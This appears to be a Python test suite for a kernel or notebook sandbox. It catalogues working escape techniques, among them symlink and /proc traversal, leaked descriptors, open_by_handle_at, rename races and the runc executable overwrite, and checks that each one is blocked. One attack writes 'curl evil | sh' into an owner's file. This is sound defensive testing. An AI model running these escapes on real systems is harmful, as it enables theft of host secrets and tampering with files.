"""What the attacker wants: files of the host that nobody granted."""

from __future__ import annotations

import ctypes
import os
import select
import socket
import struct
import subprocess
import sys
from typing import Any

from tests.escapes.attack import ROOT, Attack, attack
from tests.escapes.places import Place
from tests.escapes.proof import prove
from tests.escapes.shares import MovedFolder, NextKernel, Program, RestartedKernel
from tests.escapes.targets import Descriptor, HostFile, Loot, Secret, SharedFile, Untouched
from tests.escapes.tools import first, must, read


def test_read_host_files(attack: Attack, place: Place, proven: set[tuple[str, str]]) -> None:
    prove(attack, place, proven)


@attack(Secret, stopped_by="mount")
def by_its_path(target: Any) -> str:
    """Read a file of the server's owner by its path."""
    return read(target.path)


@attack(Secret, stopped_by="mount")
def through_many_parents(target: Any) -> str:
    """Climb out of the workspace with more .. than there are folders."""
    return read("../" * 64 + target.path)


@attack(Secret, stopped_by="mount")
def through_a_symlink_in_the_workspace(target: Any) -> str:
    """Leave a link in the workspace that leads to a file of the owner's, and read through it."""
    link = f"link-{os.getpid()}"
    os.symlink(target.path, link)
    try:
        return read(link)
    finally:
        os.unlink(link)


@attack(Secret, stopped_by="mount")
def through_a_hard_link_in_the_workspace(target: Any) -> str:
    """Give a file of the owner's a second name in the workspace."""
    link = f"hard-{os.getpid()}"
    os.link(target.path, link)
    try:
        return read(link)
    finally:
        os.unlink(link)


@attack(Secret, stopped_by="mount")
def through_the_root_of_any_process(target: Any) -> str:
    """Find a process whose root is the host's, and go through its /proc/PID/root."""
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    return first(lambda pid=pid: read(f"/proc/{pid}/root{target.path}") for pid in pids)


@attack(Secret, stopped_by="mount")
def through_the_folder_of_any_process(target: Any) -> str:
    """Find a process that works in a folder of the host's, and climb from there."""
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    climb = "../" * 32
    return first(lambda pid=pid: read(f"/proc/{pid}/cwd/{climb}{target.path}") for pid in pids)


@attack(Descriptor, stopped_by="descriptors")
def through_a_descriptor_that_was_left_open(target: Any) -> str:
    """Use an open folder that the server forgot to close before it started the kernel."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            found.append(os.read(os.open(target.name, os.O_RDONLY, dir_fd=int(name)), 100).decode())
        except OSError:
            pass
    return str(found)


@attack(Descriptor, stopped_by="descriptors", runs="cell")
def through_a_descriptor_of_the_kernel_itself(target: Any) -> str:
    """Use an open folder that the kernel's own process was given without knowing."""
    found = []
    for number in range(3, 1024):
        try:
            found.append(os.read(os.open(target.name, os.O_RDONLY, dir_fd=number), 100).decode())
        except OSError:
            pass
    return str(found)


@attack(Secret, stopped_by="seccomp", control=ROOT)
def by_a_file_handle(target: Any) -> str:
    """Open a file by its number on the disk, which needs no path at all: the attack that opened Docker in 2014."""
    handle = ctypes.create_string_buffer(bytes.fromhex(target.handle), 136)
    here = os.open(".", os.O_RDONLY)
    file = must(304, here, handle, os.O_RDONLY)  # open_by_handle_at
    return os.read(file, 100).decode()


@attack(Secret, stopped_by="seccomp", control=ROOT)
def by_guessing_file_handles(target: Any) -> str:
    """Try the numbers of all files on the disk, one of which must be the right one."""
    here = os.open(".", os.O_RDONLY)
    for generation in (0, target.generation):
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, target.inode, generation), 136)
        try:
            return os.read(must(304, here, handle, os.O_RDONLY), 100).decode()
        except OSError as error:
            last = error
    raise last


@attack(HostFile, stopped_by="mount", control=ROOT, facts={"file": "/etc/shadow"})
def the_hosts_passwords(target: Any) -> str:
    """Read the password hashes of everybody on the machine."""
    return read(target.file)


@attack(HostFile, stopped_by="mount", facts={"file": "/etc/passwd"})
def the_hosts_users(target: Any) -> str:
    """Learn who has an account on the machine."""
    return read(target.file)


@attack(HostFile, stopped_by="mount", facts={"file": "/etc/fstab"}, control=ROOT)
def the_hosts_disks(target: Any) -> str:
    """Learn how the machine's disks are laid out."""
    return read(target.file)


@attack(Loot, stopped_by="mount", control=ROOT)
def a_disk_by_its_device(target: Any) -> str:
    """Read the machine's disk past its file system."""
    names = [name for name in os.listdir("/dev") if name.startswith(("vd", "sd", "nvme", "xvd", "loop", "dm-", "zram"))]
    return first(lambda name=name: os.open(f"/dev/{name}", os.O_RDONLY) and name for name in sorted(names))


@attack(Loot, stopped_by="seccomp", control=ROOT)
def a_device_made_in_the_workspace(target: Any) -> str:
    """Make a device node and read the machine's memory device through it."""
    name = f"device-{os.getpid()}"
    os.mknod(name, 0o020600, os.makedev(1, 5))  # /dev/zero, where an attacker would take the disk
    try:
        return read(name, 8).replace("\0", "0")
    finally:
        os.unlink(name)


@attack(Loot, stopped_by="mount", control=ROOT)
def the_kernels_log(target: Any) -> str:
    """Read what Linux itself logs: addresses, devices, other people's crashes."""

    def by_call() -> str:
        buffer = ctypes.create_string_buffer(100)
        must(103, 3, buffer, 100)  # syslog, SYSLOG_ACTION_READ_ALL
        return buffer.value.decode("utf-8", "replace")

    return first((lambda: read("/dev/kmsg", 8192), by_call))


@attack(Loot, stopped_by="mount")
def the_devices_of_the_host(target: Any) -> list[str]:
    """See which block devices and network cards the machine has."""
    return os.listdir("/sys/class/net") + os.listdir("/sys/block")


@attack(Loot, stopped_by="mount")
def out_of_the_cpu_folder(target: Any) -> list[str]:
    """Climb out of the one folder of /sys that is shown."""
    return os.listdir("/sys/devices/system/cpu/../../../kernel")


@attack(Loot, stopped_by="mount")
def the_control_groups_of_the_host(target: Any) -> list[str]:
    """List the machine's control groups, one of which holds the limits of this kernel."""
    return os.listdir("/sys/fs/cgroup")


@attack(Loot, stopped_by="mount")
def the_sockets_of_the_host(target: Any) -> list[str]:
    """List what runs on the machine by what lies in /run."""
    ours = ("empty", "hidden", "trees")  # of the view: there, and empty
    return [name for name in os.listdir("/run") if name != "lower" and (name not in ours or os.listdir(f"/run/{name}"))]


@attack(Loot, stopped_by="pid")
def what_others_do(target: Any) -> list[str]:
    """Count the machine's processes."""
    mine = {str(os.getpid()), str(os.getppid()), "1", "2"}
    return [name for name in os.listdir("/proc") if name.isdigit() and name not in mine][:20]


@attack(Loot, stopped_by="pid", control=ROOT)
def where_linux_lies_in_memory(target: Any) -> str:
    """Learn the addresses of Linux itself, which a later attack would need."""
    lines = [line for name in ("kallsyms", "timer_list", "iomem") for line in read(f"/proc/{name}").splitlines()]
    return "".join(line for line in lines if "ffffffff" in line[:20])[:200]


@attack(Loot, stopped_by="pid")
def how_the_machine_was_booted(target: Any) -> str:
    """Read the boot parameters, where virtual machines are handed their tokens."""
    return read("/proc/cmdline")


@attack(Loot, stopped_by="pid")
def when_somebody_types(target: Any) -> str:
    """Watch the machine's interrupt counters, which tick with every key that somebody presses."""
    return read("/proc/interrupts")[:200]


@attack(Loot, stopped_by="pid")
def how_the_hardware_is_wired(target: Any) -> list[str]:
    """List the machine's buses and interrupts."""
    return os.listdir("/proc/bus") + os.listdir("/proc/irq")


@attack(SharedFile, stopped_by="mount", control=ROOT)
def write_to_the_libraries(target: Any) -> str:
    """Change a file that every kernel of the machine loads."""
    with open(target.shared, "a") as file:
        file.write("import os")
    return "written"


@attack(SharedFile, stopped_by="mount", control=ROOT)
def replace_a_library(target: Any) -> str:
    """Move a file of one's own over one that every kernel loads."""
    name = f"mine-{os.getpid()}"
    with open(name, "w") as file:
        file.write("import os")
    try:
        os.rename(name, target.shared)
    except OSError:
        import shutil

        shutil.copyfile(name, target.shared)
    return "replaced"


@attack(Untouched, stopped_by="mount")
def change_a_file_of_the_owner(target: Any) -> str:
    """Append a line to a file of the owner's, as one does with ~/.bashrc."""
    with open(target.path, "a") as file:
        file.write("curl evil | sh")
    return "written"


@attack(Untouched, stopped_by="mount")
def remove_a_file_of_the_owner(target: Any) -> str:
    """Delete a file of the owner's."""
    os.unlink(target.path)
    return "removed"


@attack(Untouched, stopped_by="mount")
def truncate_through_a_symlink(target: Any) -> str:
    """Let a link in the workspace lead to a file of the owner's, and truncate it there."""
    link = f"cut-{os.getpid()}"
    os.symlink(target.path, link)
    try:
        os.truncate(link, 0)
    finally:
        os.unlink(link)
    return "truncated"


@attack(Untouched, stopped_by="mount")
def change_its_mode(target: Any) -> str:
    """Open a file of the owner's to everybody, and then write into it."""
    os.chmod(target.path, 0o666)
    with open(target.path, "w") as file:
        file.write("changed")
    return "changed"


@attack(Secret, stopped_by="mount")
def by_the_root_of_its_own(target: Any) -> str:
    """Go through /proc/self/root and /proc/thread-self/cwd, which are doors rather than links."""
    climb = "../" * 32
    places = ("/proc/self/root", "/proc/thread-self/root", f"/proc/self/cwd/{climb}", f"/proc/thread-self/cwd/{climb}")
    return first(lambda place=place: read(place + target.path) for place in places)


@attack(Secret, stopped_by="mount")
def by_a_folder_that_is_exchanged(target: Any) -> str:
    """Exchange a folder of the workspace and a link, and go through the name that was the folder's."""
    place, link = f"swap-{os.getpid()}", f"link-{os.getpid()}"
    os.mkdir(place)
    os.symlink(os.path.dirname(target.path), link)
    try:
        last: Exception = OSError("it was never the link")
        for _ in range(200):
            must(316, -100, place.encode(), -100, link.encode(), 2)  # renameat2, RENAME_EXCHANGE
            try:
                return read(f"{place}/{target.name}")
            except OSError as error:
                last = error
        raise last
    finally:
        for name in (place, link):
            os.unlink(name) if os.path.islink(name) else os.rmdir(name)


@attack(MovedFolder, stopped_by="mount")
def by_a_folder_that_is_moved_away(target: Any) -> str:
    """Be in a folder when its owner moves it out of the workspace, and look around from there."""
    os.chdir(target.folder)
    os.close(os.open("here", os.O_CREAT | os.O_WRONLY))
    last: Exception = OSError("it was not moved")
    for _ in range(100):
        try:
            return read("../notes.txt")
        except OSError as error:
            last = error
        select.select([], [], [], 0.01)
    raise last


@attack(Program, stopped_by="mount", control=ROOT)
def by_its_own_program(target: Any) -> str:
    """Overwrite a program by the door that /proc keeps to it while it runs, as runc was opened in 2019."""
    with subprocess.Popen([target.program], stdin=subprocess.PIPE) as process:
        door = os.open(f"/proc/{process.pid}/exe", os.O_PATH)
        process.communicate()
    descriptor = os.open(f"/proc/self/fd/{door}", os.O_WRONLY | os.O_APPEND)
    return f"{os.write(descriptor, b'mine')} bytes"


@attack(Secret, stopped_by="mount")
def by_a_socket_that_leads_there(target: Any) -> str:
    """Have an open file sent over from whoever has one: here from a child that tries."""
    ours, theirs = socket.socketpair()
    pid = os.fork()
    if pid == 0:
        try:
            socket.send_fds(theirs, [b"x"], [os.open(target.path, os.O_RDONLY)])
        finally:
            os._exit(0)
    theirs.close()
    _, descriptors, _, _ = socket.recv_fds(ours, 1, 1)
    os.waitpid(pid, 0)
    return os.read(descriptors[0], 100).decode() if descriptors else ""


@attack(Secret, stopped_by="mount")
def by_a_program_that_reads_for_it(target: Any) -> str:
    """Have another program read it: the shell, tar, and whatever else follows names."""
    commands = (["/bin/cat", target.path], ["/bin/sh", "-c", f"read x < {target.path} && echo $x"])
    for command in commands:
        said = subprocess.run(command, capture_output=True, text=True, check=False).stdout
        if said:
            return said
    return ""


@attack(RestartedKernel, stopped_by="workspace")
def by_a_link_where_a_kernel_restarts(target: Any) -> str:
    """Put a link in the place of a folder in which another notebook works, and wait until that is restarted."""
    os.rename(target.folder, target.folder + "-before")
    os.symlink(target.secret, target.folder)
    return "put"


COMES_AND_GOES = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None)
end = time.monotonic() + 4
while time.monotonic() < end and not os.path.exists(sys.argv[3]):
    libc.syscall(316, -100, sys.argv[1].encode(), -100, sys.argv[2].encode(), 2)  # renameat2, RENAME_EXCHANGE
"""


def _goes_and_comes(target: Any) -> str:
    """Exchange a folder and a link without end, while a kernel is being started there."""
    os.symlink(target.secret, target.folder + "-before")
    null = subprocess.DEVNULL
    names = [target.folder + ending for ending in ("", "-before", "-over")]
    command = [sys.executable, "-I", "-S", "-c", COMES_AND_GOES, *names]
    subprocess.Popen(command, stdin=null, stdout=null, stderr=null, start_new_session=True)
    return "begun"


RACES = [
    attack(NextKernel, stopped_by="workspace", name=name, wants=f"Exchange a folder and a link to {where} without end, "
           "so that the next kernel that is started there gets the wrong one.", facts={"home": home},
           seconds=30.0)(_goes_and_comes)
    for name, where, home in (("by_a_link_that_comes_and_goes", "a secret", False),
                              ("by_a_link_to_the_home_that_comes_and_goes", "the owner's home", True))
]  # fmt: skip
